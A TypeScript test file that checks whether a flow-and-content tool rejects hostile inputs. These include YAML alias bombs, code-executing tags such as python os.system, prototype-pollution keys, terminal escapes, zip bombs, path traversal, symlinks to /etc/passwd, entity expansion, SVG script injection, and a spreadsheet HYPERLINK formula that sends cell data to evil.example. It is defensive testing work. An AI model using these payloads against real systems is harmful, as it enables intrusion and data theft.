import { spawnSync } from 'node:child_process';
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import fc from 'fast-check';
import sax from 'sax';
import { afterAll, describe, expect, it } from 'vitest';
import { systemClock } from '../../src/base/clock.ts';
import {
  type Diagnostic,
  error,
  formatDiagnostic,
  githubDiagnostic,
  jsonDiagnostic,
} from '../../src/base/diagnostic.ts';
import { OperationalError } from '../../src/base/operational-error.ts';
import { check } from '../../src/check/index.ts';
import { readTreeAt } from '../../src/cli/git-tree.ts';
import { openWorkbook } from '../../src/cli/imports/workbook.ts';
import { loadRelease } from '../../src/content/load.ts';
import { readTree, type SourceFile } from '../../src/content/tree.ts';
import { openLiveRelease } from '../../src/delivery/live-release.ts';
import { flowMap } from '../../src/report/map/map.ts';
import { createMemoryReleases } from '../../src/store/memory-releases.ts';
import { FOREIGN, filesOf, ROOT, withFile } from '../support/repository.ts';
import { zip } from '../support/xlsx.ts';
import { openWorkshop } from '../workshop/app.ts';

const NOW = Date.UTC(2026, 2, 1, 12);
const files = filesOf(FOREIGN);

/** Longer than any of these takes, and far shorter than what a hang would be; of the processor, since the machine may be busy. */
const MOST_MS = 8000;
const spent = (): number => {
  const { user, system } = process.threadCpuUsage();
  return (user + system) / 1000;
};

const LATE = 'flows/late-book.yaml';
const DESK = 'flows/counter.yaml';
const EN = 'content/texts/en/late-book.yaml';
const CARD = 'content/answers/library/card.yaml';
const LOAN = 'content/facts/library/loan.yaml';
const RENEWALS = 'content/tables/library/renewals.yaml';
const TALK = 'flows/late-book.talk.yaml';
const PLACES = 'content/places/branches.csv';
const COPIES = 'content/quotes/copies.csv';
const CITIES = 'content/geo/cities.tsv';
const ESCAPE = '\u001b';

const errorsOf = (diagnostics: readonly Diagnostic[]): readonly Diagnostic[] =>
  diagnostics.filter(({ severity }) => severity === 'error');

/** What the server does with these files before it listens. */
const start = (tree: readonly SourceFile[]): Promise<unknown> =>
  openLiveRelease({ releases: createMemoryReleases(), files: tree, pace: systemClock(), note: () => undefined });

type Change = readonly [from: string, to: string];

/** The whole file where the first text is empty; `$` appends. */
const changed = (file: string, [from, to]: Change): readonly SourceFile[] =>
  withFile(files, file, (text) => {
    const result = from === '' ? to : from === '$' ? text + to : text.replace(from, () => to);
    expect(result, `nothing is changed in ${file}`).not.toBe(text);
    return result;
  });

/** Refused by `check`, by loading and by the start, in good time, with its place and a hint. */
const refused = async (file: string, change: Change, line: number, says: RegExp): Promise<void> => {
  const tree = changed(file, change);
  const began = spent();
  for (const diagnostics of [check(tree, NOW).diagnostics, loadRelease(tree).diagnostics]) {
    const found = errorsOf(diagnostics).filter((d) => d.file === file);
    const [first] = found.filter((d) => says.test(d.message));
    expect(first, found.slice(0, 3).map(formatDiagnostic).join('\n')).toMatchObject({ line });
    expect(first?.column).toBeGreaterThan(0);
    expect(first?.hint).toMatch(/\w/);
  }
  await expect(start(tree)).rejects.toThrow(/^\d+ mistakes in flows and content; the first: \S+:\d+:\d+ error /);
  expect(spent() - began).toBeLessThan(MOST_MS);
};

/** `&b [*a, *a, …]` ten levels high: three and a half thousand million letters. */
const BOMB = ['a: &a [x, x, x, x, x, x, x, x, x]']
  .concat([...'bcdefghij'].map((name, i) => `${name}: &${name} [${Array(9).fill(`*${'abcdefghij'[i]}`).join(', ')}]`))
  .join('\n');
const many = (count: number, line: (i: number) => string): string =>
  Array.from({ length: count }, (_, i) => line(i)).join('\n');
const ASKED = 'How old is the reader?';

describe('YAML that would harm', () => {
  it.each<[string, string, Change, number, RegExp]>([
    ['a bomb of aliases', LATE, ['', BOMB], 1, /anchors/],
    ['an anchor that nobody uses', EN, [ASKED, `&a ${ASKED}`], 1, /anchors/],
    ['an anchor on a map', EN, ['$', 'other: &a { text: Hm }\n'], 6, /anchors/],
    ['aliases without end', EN, ['', `a:\n${'- *a\n'.repeat(40_000)}`], 2, /anchors/],
    ['a tag that makes a function', LATE, ['start: age', 'start: !!js/function "() => 1"'], 1, /tag/],
    ['a tag that makes an expression', EN, [ASKED, '!!js/regexp /(a+)+$/'], 1, /tag/],
    ['a tag of another program', EN, ['$', 'x: !!python/object/apply:os.system ["true"]\n'], 6, /tag/],
    ['a tag of YAML itself on a map', EN, ['$', 'x: !!map { text: Hm }\n'], 6, /tag/],
    ['a tag by an address', EN, ['', '%TAG ! tag:evil.example,2026:\n---\na: !x 1\n'], 3, /tag/],
    ['a key that stands twice', EN, ['$', 'age: Hm\n'], 6, /unique/],
    ['a key that stands twice, written otherwise', EN, ['$', '"\\x61ge": Hm\n'], 6, /unique/],
    ['a key that is a map', EN, ['$', '? { a: 1 }\n: 2\n'], 6, /one word/],
    ['two documents', EN, ['$', '---\nage: Hm\n'], 6, /multiple documents/],
    [
      'ten thousand lists in lists',
      EN,
      ['$', `x: ${'['.repeat(10_000)}${']'.repeat(10_000)}\n`],
      6,
      /nested too deeply/,
    ],
    [
      'ten thousand maps in maps',
      EN,
      ['$', `x: ${'{a: '.repeat(10_000)}${'}'.repeat(10_000)}\n`],
      6,
      /nested too deeply/,
    ],
    ['as many lists as fit, never closed', EN, ['', '['.repeat(500_000)], 1, /nested too deeply/],
    ['a hundred thousand dashes', EN, ['', '- '.repeat(100_000)], 1, /nested too deeply/],
    ['a hundred thousand question marks', EN, ['', '? '.repeat(100_000)], 1, /nested too deeply/],
    ['levels by indentation', EN, ['', many(900, (i) => `${' '.repeat(i)}a:`)], 41, /nested too deeply/],
    ['a file of many MB', EN, ['', 'key: words\n'.repeat(500_000)], 1, /too large/],
    ['a hundred thousand lines', EN, ['', '#\n'.repeat(100_000)], 1, /too many lines/],
    ['a hundred thousand empty documents', EN, ['', '---\n'.repeat(100_000)], 1, /too many lines/],
    ['a very long line', EN, [ASKED, 'word '.repeat(90_000)], 1, /too long/],
    ['a very long word', CARD, ['Come with any letter', 'a'.repeat(400_000)], 4, /too long/],
    ['a very long name', EN, ['$', `${'k'.repeat(900)}: Hm\n`], 6, /name is too long/],
    ['NUL', EN, [ASKED, 'How\0 old?'], 1, /U\+0000/],
    ['NUL by an escape', EN, [ASKED, '"How\\0 old?"'], 1, /U\+0000/],
    ['a terminal escape', EN, [ASKED, `How ${ESCAPE}[31mold?`], 1, /U\+001B/],
    ['a terminal escape in one sign', EN, [ASKED, '"How \\x9b31mold?"'], 1, /U\+009B/],
    ['half a character', EN, [ASKED, 'How \ud800old?'], 1, /U\+D800/],
    ['half a character by an escape', EN, [ASKED, '"How \\uD800old?"'], 1, /U\+D800/],
    ['a letter that was lost', EN, [ASKED, 'How \ufffdld?'], 1, /U\+FFFD/],
    ['a figure that reads backwards', CARD, ['Come with', 'Pay \u202e002\u202c with'], 4, /U\+202E/],
    ['a figure that reads backwards, by an escape', EN, [ASKED, '"\\u202e18"'], 1, /U\+202E/],
    ['isolated directions', EN, [ASKED, 'How \u2067old\u2069?'], 1, /U\+2067/],
    ['words that nobody sees', EN, [ASKED, `How\u{e0041} old?`], 1, /U\+E0041/],
    ['a name with a sign that nobody sees', EN, ['$', '"a\u200bge": Hm\n'], 6, /U\+200B/],
  ])('is refused: %s', async (_, file, change, line, says) => {
    await refused(file, change, line, says);
  });

  it.each([
    LATE,
    LOAN,
    EN,
    RENEWALS,
    CARD,
    TALK,
    'content/settings.yaml',
    'content/sources.yaml',
    'content/words/en.yaml',
  ])('is refused in %s where a key is what every object has', async (file) => {
    for (const key of ['__proto__', 'constructor', 'prototype', '"\\x5f_proto__"'])
      await refused(file, ['', `a: 1\nb:\n  ${key}: { polluted: yes }\n`], 3, /cannot be a name/);
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
  });

  it('says the first twenty mistakes of a file, and not a hundred thousand', () => {
    const { diagnostics } = loadRelease(changed(EN, ['', `a:\n${'- *a\n'.repeat(40_000)}`]));
    expect(diagnostics.filter(({ file }) => file === EN)).toHaveLength(20);
  });

  it('leaves what editors write: emoji of several signs, accents, marks for other writings', () => {
    const words = '"¿Cuántos? 👩‍👩‍👧 🇲🇽 ✈️ é \u200f(عربي)\u200e"';
    expect(errorsOf(loadRelease(changed(EN, [ASKED, words])).diagnostics)).toEqual([]);
  });
});

describe('a name that every object has', () => {
  it.each<[string, Change, number, RegExp]>([
    [LATE, ['next: days_late', 'next: constructor'], 5, /constructor/],
    [LATE, ['start: age', 'start: __proto__'], 1, /__proto__/],
    [LATE, ['ask: integer', 'ask: constructor'], 5, /constructor/],
    [LATE, ['finish: { end: ~ }', 'finish: { toString: ~ }'], 15, /kind/],
    [LATE, ['kind: text', 'kind: constructor'], 2, /constructor/],
    [LATE, ['age < 18', 'constructor < 18'], 11, /not a variable/],
    [LATE, ['age < 18', 'age.constructor < 18'], 11, /cannot be used/],
    [LATE, ['age < 18', "''.constructor.constructor('return 1')() < 18"], 11, /./],
    [LATE, ['age < 18', "valueOf('a') < 18"], 11, /not a function/],
    [LATE, ["fact('library.loan.fine') * days_late\", ren", "fact('constructor') * days_late\", ren"], 10, /no fact/],
    [LATE, ["table('library.renewals'", "table('toString'"], 10, /no table|toString/],
    [DESK, ['show: library.card', 'show: constructor'], 6, /constructor/],
    [DESK, ['find: branches', 'find: __proto__'], 8, /__proto__/],
    ['content/settings.yaml', ['home: counter', 'home: constructor'], 1, /constructor/],
  ])('is nothing in %s: %s', async (file, change, line, says) => {
    const tree = changed(file, change);
    for (const diagnostics of [check(tree, NOW).diagnostics, loadRelease(tree).diagnostics])
      expect(errorsOf(diagnostics)).toContainEqual(
        expect.objectContaining({ file, line, message: expect.stringMatching(says) }),
      );
    await expect(start(tree)).rejects.toThrow(OperationalError);
  });

  it.each([
    '{{constructor}}',
    '{{__proto__}}',
    '{{toString}}',
    '{{ {{owed}} }}',
    '{{{owed}}}',
    '{{owed',
    'owed}}',
    '{{}}',
    '{{- owed}}',
    '{{owed, uppercase}}',
    '{{owed\n}} {{',
    '{{'.repeat(100),
  ])('and braces that hold anything but a name are refused: %s', async (braces) => {
    await refused(EN, ['{{owed}}. You can', `${JSON.stringify(braces).slice(1, -1)}. You can`], 4, /\{\{ \}\}/);
  });

  it.each(['count', 'ns', 'lng', 'context', 'replace', 'defaultvalue'])(
    'of the library that fills texts in means nothing: {{%s}}',
    (name) => {
      const flow = withFile(files, LATE, (text) => text.replaceAll('renewals:', `${name}:`));
      const tree = ['en', 'es'].reduce(
        (all, locale) =>
          withFile(all, `content/texts/${locale}/late-book.yaml`, (text) =>
            text.replaceAll('{{renewals}}', `{{${name}}}`),
          ),
        flow,
      );
      expect(errorsOf(check(tree, NOW).diagnostics).filter(({ rule }) => rule !== 'stale-translation')).toEqual([]);
    },
  );
});

describe('an expression that would harm', () => {
  it.each<[string, string, RegExp]>([
    ['too long', `age${' + 1'.repeat(200)} < 18`, /too long/],
    ['far too long', `${'age + '.repeat(50_000)}1 < 18`, /too long/],
    ['too deep by signs', `${'!'.repeat(400)}(age < 18)`, /nested too deeply/],
    ['too deep by sums', `age${'+1'.repeat(200)} < 18`, /nested too deeply/],
    ['lists of lists', `${'[1,2,3].map(a, '.repeat(25)}a${')'.repeat(25)} == 1`, /cannot be used|list/],
    ['a list', '[1, 2, 3].all(x, x > age)', /cannot be used/],
    ['a map', '{"a": age}.a < 18', /cannot be used|only/],
    ['a regular expression', "'aaaa!'.matches('(a+)+$')", /cannot be used/],
    ['an unknown function', "require('fs') == 1", /not a function/],
    ['code', 'age < 18; process.exit(1)', /./],
    ['a template', '`$' + '{age}` == 1', /./],
    ['a number with a point', 'age < 1e999', /./],
  ])('is refused: %s', async (_, expression, says) => {
    const tree = changed(LATE, ['"age < 18 && days_late < 3"', JSON.stringify(expression)]);
    const began = spent();
    for (const diagnostics of [check(tree, NOW).diagnostics, loadRelease(tree).diagnostics])
      expect(errorsOf(diagnostics)).toContainEqual(
        expect.objectContaining({ file: LATE, line: 11, message: expect.stringMatching(says) }),
      );
    await expect(start(tree)).rejects.toThrow(OperationalError);
    expect(spent() - began).toBeLessThan(MOST_MS);
  });

  it.each([
    `${'('.repeat(240)}age${')'.repeat(240)} < 18`,
    `${'age < 1 ? true : '.repeat(28)}true`,
    `age < ${'9'.repeat(400)}`,
  ])('is only long-winded: %s', (expression) => {
    const began = spent();
    loadRelease(changed(LATE, ['"age < 18 && days_late < 3"', JSON.stringify(expression)]));
    check(changed(LATE, ['"age < 18 && days_late < 3"', JSON.stringify(expression)]), NOW);
    expect(spent() - began).toBeLessThan(MOST_MS);
  });

  it('is refused as a flow of four thousand steps', async () => {
    await refused(LATE, ['$', many(4000, (i) => `  s${i}: { say: ~, next: s${i + 1} }`)], 4, /500 steps at most/);
  });

  it('is proved in good time where a flow has as many steps as it may', () => {
    const steps = many(
      490,
      (i) => `  s${i}: { ask: yes-no, next: [{ when: "s${i}", to: s${(i * 7) % 490} }, s${i + 1}] }`,
    );
    const tree = changed(LATE, ['$', `${steps}\n  s490: { end: ~ }\n`]);
    const began = spent();
    check(tree, NOW);
    expect(spent() - began).toBeLessThan(MOST_MS);
  });

  it.each(['1.', 'a', 'a-', 'a@', 'www.', '- ', '1,', '¿', '%', '((', '. ', "a'"])(
    'and no pattern of the check takes long over texts full of %j',
    (piece) => {
      const words = piece.repeat(Math.floor(3900 / piece.length));
      const text = many(30, (i) => `t${i}: { text: ${JSON.stringify(`x${words}y`)} }`);
      const tree = withFile(changed(EN, ['$', text]), CARD, (card) =>
        card.replace('Come with any letter', `x${words}y`),
      );
      const began = spent();
      check(tree, NOW);
      expect(spent() - began).toBeLessThan(MOST_MS);
    },
  );
});

describe('a table that would harm', () => {
  it.each<[string, string, Change, number, RegExp]>([
    ['a quote that is never closed', PLACES, ['$', `"${'x,'.repeat(100_000)}`], 4, /cannot be read/],
    ['a quote that is closed too early', COPIES, ['Kiosk', '"Ki"osk'], 4, /cannot be read/],
    ['a million columns', PLACES, ['$', 'x,'.repeat(1_000_000)], 4, /cannot be read/],
    ['a heading of a million columns', PLACES, ['', `${'x,'.repeat(1_000_000)}\n`], 1, /cannot be read/],
    ['a huge cell', PLACES, ['North branch', 'x'.repeat(1_000_000)], 2, /cannot be read/],
    ['a million rows', PLACES, ['$', 'x,\n'.repeat(1_000_000)], 1, /too many lines/],
    ['a hundred thousand empty rows', PLACES, ['$', '\n'.repeat(100_001)], 1, /too many lines/],
    ['rows of too few cells', PLACES, ['$', 'x,y\n'.repeat(1000)], 4, /this row has/],
    ['many MB', PLACES, ['$', 'x'.repeat(5_000_000)], 1, /too large/],
    ['many MB of towns', CITIES, ['$', '\t'.repeat(5_000_000)], 1, /too large/],
    ['NUL', PLACES, ['North branch', 'North\0branch'], 2, /U\+0000/],
    ['half a character', COPIES, ['Kiosk', 'Ki\udc00osk'], 4, /U\+DC00/],
    ['a price that reads backwards', COPIES, ['Kiosk', 'Ki\u202eosk'], 4, /U\+202E/],
    ['a terminal escape among towns', CITIES, ['$', `x${ESCAPE}[2J\n`], -1, /U\+001B/],
  ])('is refused: %s', async (_, file, change, line, says) => {
    const last = (files.find((one) => one.file === file)?.text ?? '').split('\n').length;
    await refused(file, change, line < 0 ? last : line, says);
  });

  it('is read in good time where it has as many rows as fit', () => {
    const [heading = '', row = ''] = (files.find(({ file }) => file === PLACES)?.text ?? '').split('\n');
    const rows = many(30_000, (i) => row.replace(/^[^,]*/, `p${i}`));
    const began = spent();
    loadRelease(changed(PLACES, ['', `${heading}\n${rows}\n`]));
    expect(spent() - began).toBeLessThan(MOST_MS);
  });

  it('is words, whatever a spreadsheet would make of them', () => {
    const formula = `=HYPERLINK("https://evil.example/"&A1)`;
    const { release, diagnostics } = loadRelease(
      changed(PLACES, ['North branch', `"${formula.replaceAll('"', '""')}"`]),
    );
    expect(errorsOf(diagnostics)).toEqual([]);
    expect(release?.places.get('branches')?.map(({ name }) => name)).toContain(formula);
  });
});

const folder = mkdtempSync(join(tmpdir(), 'ventanilla-hostile-'));
afterAll(() => rmSync(folder, { recursive: true }));

const ventanilla = (args: readonly string[], cwd = ROOT) =>
  spawnSync(process.execPath, ['--max-old-space-size=320', join(ROOT, 'bin/ventanilla.js'), ...args], {
    cwd,
    encoding: 'utf8',
    timeout: 90_000,
    env: { PATH: process.env['PATH'] ?? '', NOW: '2026-03-01T12:00:00Z' },
  });

/** A folder of its own with some files written over it. */
const copyWith = (name: string, written: Readonly<Record<string, string | Buffer>>): string => {
  const dir = join(folder, name);
  cpSync(FOREIGN, dir, { recursive: true });
  for (const [file, text] of Object.entries(written)) {
    mkdirSync(dirname(join(dir, file)), { recursive: true });
    writeFileSync(join(dir, file), text);
  }
  return dir;
};

describe('a folder that would harm', () => {
  const PLANTED = 'planted-words-of-another-file';
  const outside = join(folder, 'outside');
  mkdirSync(outside);
  writeFileSync(join(outside, 'secret.yaml'), `${PLANTED}: [\n`);

  it('is refused with all its mistakes at once, in little memory, and with nothing a terminal would obey', () => {
    const red = `${ESCAPE}[31m`;
    const dir = copyWith('all', {
      'content/facts/library/bytes.yaml': Buffer.from([0x61, 0x3a, 0x20, 0xff, 0xfe, 0x0a]),
      'content/facts/library/wide.yaml': Buffer.from('\ufeffa: 1\n', 'utf16le'),
      'content/facts/library/bomb.yaml': BOMB,
      'content/facts/library/large.yaml': 'a: b\n'.repeat(20_000_000),
      'content/facts/library/deep.yaml': '['.repeat(500_000),
      [`content/texts/en/${red}red.yaml`]: 'a: Hm\n',
      'content/texts/en/two\n::error::lines.yaml': 'a: Hm\n',
      [EN]: `"${red.replace(ESCAPE, '\\e')}": Hm\n"odd\\n::error file=x::gone": Hm\n`,
    });
    symlinkSync(join(outside, 'secret.yaml'), join(dir, 'content/facts/library/linked.yaml'));
    symlinkSync(outside, join(dir, 'content/linked'));
    symlinkSync('/etc/passwd', join(dir, 'content/places/people.csv'));
    symlinkSync(join(dir, 'nowhere'), join(dir, 'flows/dangling.yaml'));
    const { stdout, stderr, status } = ventanilla(['check', '--dir', dir]);
    expect(status).toBe(1);
    for (const line of [
      'content/facts/library/bytes.yaml:1:4 error yaml U+FFFD',
      'content/facts/library/wide.yaml:1:1 error yaml U+FFFD',
      'content/facts/library/bomb.yaml:1:7 error yaml anchors',
      'content/facts/library/large.yaml:1:1 error file this file is too large',
      'content/facts/library/deep.yaml:1:501 error yaml this is nested too deeply',
      'content/texts/en/\\u{1b}[31mred.yaml:1:1 error file the name of this file holds U+001B',
      'content/texts/en/two\\u{a}::error::lines.yaml:1:1 error file the name',
      `${EN}:1:1 error yaml U+001B`,
      'content/facts/library/linked.yaml:1:1 error file this is a link',
      'content/linked:1:1 error file this is a link',
      'content/places/people.csv:1:1 error file this is a link',
      'flows/dangling.yaml:1:1 error file this is a link',
    ])
      expect(stdout).toContain(line);
    for (const text of [stdout, stderr]) {
      expect(text).not.toContain(ESCAPE);
      expect(text).not.toContain(PLANTED);
      expect(text).not.toContain('root:');
      expect(text).not.toContain('    at ');
    }
    for (const line of ventanilla(['check', '--github', '--dir', dir]).stdout.trim().split('\n'))
      expect(line).toMatch(/^::(error|warning) file=[^,:\r]*,line=\d+,col=\d+,title=[a-z-]+::[^\r]*$/);
    // Whatever else opens the folder says the first of them in one line.
    for (const command of [['graph', 'counter'], ['serve']]) {
      const opened = ventanilla([...command, '--dir', dir]);
      expect(opened.status).toBe(1);
      expect(opened.stderr).toMatch(/^[^\n]*content\/[^\n]*:1:\d+ [^\n]*\n$/);
      expect(opened.stderr).not.toContain(ESCAPE);
    }
  });

  it('has its links refused in what git kept, too', () => {
    const dir = copyWith('git', {});
    symlinkSync(join(outside, 'secret.yaml'), join(dir, 'content/facts/library/linked.yaml'));
    const git = (...args: string[]) =>
      spawnSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.org', '-C', dir, ...args], {
        encoding: 'utf8',
      });
    for (const args of [
      ['init', '-q'],
      ['add', '-A'],
      ['commit', '-q', '-m', 'x'],
    ])
      expect(git(...args).status).toBe(0);
    const tree = readTreeAt(dir, 'HEAD');
    expect(JSON.stringify(tree)).not.toContain('secret');
    expect(errorsOf(loadRelease(tree).diagnostics).map(formatDiagnostic)).toEqual([
      'content/facts/library/linked.yaml:1:1 error file this is a link, and is not followed — put the file itself here',
    ]);
    expect(readTree(dir).map(({ file }) => file)).toEqual(expect.arrayContaining(tree.map(({ file }) => file)));
  });
});

describe('a diagnostic of any words', () => {
  const signs = fc.string({
    unit: fc.constantFrom(
      'a',
      ESCAPE,
      '\u009b',
      '\n',
      '\r',
      '%',
      '%0A',
      ':',
      '::',
      ',',
      '\u202e',
      '\u2028',
      '\0',
      '"',
      '\ud800',
      ']',
      '\u007f',
    ),
  });
  const diagnostic = fc
    .tuple(signs, signs, signs)
    .map(([file, message, hint]) => error({ file, line: 1, column: 1 }, 'r', message, hint));
  /** What a terminal obeys, or what turns the order of letters round. */
  const OBEYED = /[^\P{Cc}]|[\u2028\u2029\u202a-\u202e\u2066-\u2069]/u;

  it('is one line that no terminal obeys, in each form', () => {
    fc.assert(
      fc.property(diagnostic, (one) => {
        for (const form of [formatDiagnostic, jsonDiagnostic, githubDiagnostic]) expect(form(one)).not.toMatch(OBEYED);
      }),
    );
  });

  it('is the same when JSON is read back', () => {
    fc.assert(
      fc.property(diagnostic, (one) => {
        expect(JSON.parse(jsonDiagnostic(one))).toEqual(one);
      }),
    );
  });

  it('is one command of a workflow: its words end neither it nor a property', () => {
    fc.assert(
      fc.property(diagnostic, (one) => {
        const [, properties = ''] = /^::error (.*?)::/s.exec(githubDiagnostic(one)) ?? [];
        expect(properties.split(',').map((part) => part.split('=')[0])).toEqual(['file', 'line', 'col', 'title']);
        expect(githubDiagnostic({ ...one, message: 'a%0A::error::b' })).toContain('::a%250A::error::b');
      }),
    );
  });
});

/** Elements and words of a picture, read by the rules of XML. */
const readXml = (
  svg: string,
): { readonly elements: ReadonlySet<string>; readonly words: string; readonly values: string } => {
  const parser = sax.parser(true, {});
  const elements = new Set<string>();
  let [words, values] = ['', ''];
  parser.onopentag = ({ name, attributes }) => {
    elements.add(name);
    values += `${Object.values(attributes).join('\n')}\n`;
  };
  parser.ontext = (text) => {
    words += text;
  };
  parser.onerror = (cause) => {
    throw cause;
  };
  parser.write(svg).close();
  return { elements, words, values };
};

describe('the picture of a flow with words that would harm', () => {
  const WORDS = `<script>alert("1")</script> ]]> &#x0; &amp; 'x' <!-- --> <?x?> &evil; </title>`;
  const DRAWN = new Set(['svg', 'style', 'rect', 'path', 'g', 'title', 'text', 'a']);
  const tree = withFile(changed(EN, [ASKED, JSON.stringify(WORDS)]), LATE, (text) =>
    text.replace('let: { owed: "', `let: { odd: ${JSON.stringify(`'<b>&"]]>'`)}, owed: "`),
  );
  const labelled = withFile(tree, EN, (text) => text.replace('finish: Done', `finish: ${JSON.stringify(WORDS)}`));

  it('is the same words again, and nothing but what is drawn', async () => {
    const { release, diagnostics } = loadRelease(labelled);
    expect(errorsOf(diagnostics)).toEqual([]);
    const flow = release?.flows.get('late-book');
    if (!release || !flow) throw new Error('no flow');
    const app = await openWorkshop(release);
    const served = (await app.inject('/workshop/flows/late-book?language=en')).json() as { svg: string };
    await app.close();
    for (const svg of [flowMap(release, flow, 'en', 1200), flowMap(release, flow, 'en', 320), served.svg]) {
      const { elements, words } = readXml(svg);
      expect([...elements].filter((name) => !DRAWN.has(name))).toEqual([]);
      expect(words).toContain(WORDS);
    }
    const written = readXml(flowMap(release, flow, 'en', 4000)).words.replace(/\s+/g, ' ');
    expect(written).toContain(`'<b>&"]]>'`);
    const out = join(folder, 'late-book.svg');
    const dir = copyWith('graph', Object.fromEntries(labelled.map(({ file, text }) => [file, text])));
    expect(ventanilla(['graph', 'late-book', '--lang', 'en', '--out', out, '--dir', dir])).toMatchObject({
      status: 0,
      stderr: '',
    });
    expect(readXml(readFileSync(out, 'utf8')).words).toContain(WORDS);
  });

  it('is XML even of a flow that was refused', () => {
    const steps = ['"><script>1</script>', 'a\0b', 'a\ud800b', 'a\uffffb', ']]>', "x' onload='y"];
    const odd = changed(LATE, ['$', steps.map((step) => `  ${JSON.stringify(step)}: { end: ~ }\n`).join('')]);
    const { release, diagnostics } = loadRelease(odd);
    expect(errorsOf(diagnostics).length).toBeGreaterThan(0);
    for (const flow of release?.flows.values() ?? [])
      if (release)
        expect([...readXml(flowMap(release, flow, 'en', 360)).elements].filter((name) => !DRAWN.has(name))).toEqual([]);
    const kept = changed(LATE, [
      '$',
      `  ${JSON.stringify(steps[0])}: { end: ~ }\n  ${JSON.stringify(steps[5])}: { end: ~ }\n`,
    ]);
    const named = loadRelease(kept).release;
    const flow = named?.flows.get('late-book');
    if (!named || !flow) throw new Error('no flow');
    const { elements, values } = readXml(flowMap(named, flow, 'en', 360));
    expect([...elements].filter((name) => !DRAWN.has(name))).toEqual([]);
    expect(values).toContain(`late-book/${steps[0]}`);
    expect(values).toContain(`late-book/${steps[5]}`);
  });
});

describe('a workbook that would harm', () => {
  const REL = 'xl/_rels/workbook.xml.rels';
  const parts = (sheet: string): Record<string, string> => ({
    'xl/workbook.xml': '<workbook xmlns:r="r"><sheets><sheet name="Data" r:id="a"/></sheets></workbook>',
    [REL]: '<Relationships><Relationship Id="a" Target="sheet.xml"/></Relationships>',
    'xl/sheet.xml': sheet,
  });
  const cell = (reference: string, text: string): string =>
    `<worksheet><row r="1"><c r="${reference}" t="str"><v>${text}</v></c></row></worksheet>`;
  let count = 0;
  const read = async (bytes: Buffer): Promise<number> => {
    const file = join(folder, `book${count++}.xlsx`);
    writeFileSync(file, bytes);
    const book = await openWorkbook(file);
    let rows = 0;
    try {
      for (const sheet of book.sheets) for await (const _ of book.rows(sheet)) rows++;
    } finally {
      book.close();
    }
    return rows;
  };

  it('is read where it is harmless', async () => {
    expect(await read(zip(parts(cell('B1', 'x'))))).toBe(1);
  });

  it.each<[string, Record<string, string>, Record<string, number>, RegExp]>([
    [
      'it says that it unpacks to gigabytes',
      parts(cell('A1', 'x')),
      { 'xl/sheet.xml': 3 * 2 ** 30 },
      /3221225472 bytes/,
    ],
    [
      'it says little and unpacks to much',
      parts(cell('A1', 'x'.repeat(200_000))),
      { 'xl/sheet.xml': 100 },
      /too many bytes|size/,
    ],
    [
      'its shared texts would fill the memory',
      { ...parts(''), 'xl/sharedStrings.xml': '<sst/>' },
      { 'xl/sharedStrings.xml': 2 ** 29 },
      /536870912 bytes/,
    ],
    [
      'a part is named to leave the folder',
      { ...parts(cell('A1', 'x')), '../../../../tmp/planted': 'x' },
      {},
      /relative path/,
    ],
    [
      'a part is named as a file of the machine',
      { ...parts(cell('A1', 'x')), '/etc/planted': 'x' },
      {},
      /absolute path/,
    ],
    [
      'a sheet is said to lie outside',
      { ...parts(''), [REL]: '<R><Relationship Id="a" Target="../../etc/passwd"/></R>' },
      {},
      /no part/,
    ],
    ['elements stand in elements without end', parts('<a>'.repeat(100_000)), {}, /without end/],
    ['a cell stands in a column beyond all columns', parts(cell('ZZZZZZ1', 'x')), {}, /column/],
    ['a cell is a book', parts(cell('A1', 'x'.repeat(200_000))), {}, /letters/],
    [
      'entities would unfold',
      parts(`<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>${cell('A1', '&b;')}`),
      {},
      /entity/i,
    ],
    [
      'it has too many parts',
      Object.fromEntries(Array.from({ length: 10_001 }, (_, i) => [`p${i}`, ''])),
      {},
      /10001 parts/,
    ],
    ['it is no XML', parts('<worksheet><row'), {}, /./],
  ])('is refused where %s', async (_, given, says, message) => {
    const began = spent();
    await expect(read(zip(given, says))).rejects.toThrow(message);
    await expect(read(zip(given, says))).rejects.toBeInstanceOf(OperationalError);
    expect(spent() - began).toBeLessThan(MOST_MS);
  });
});
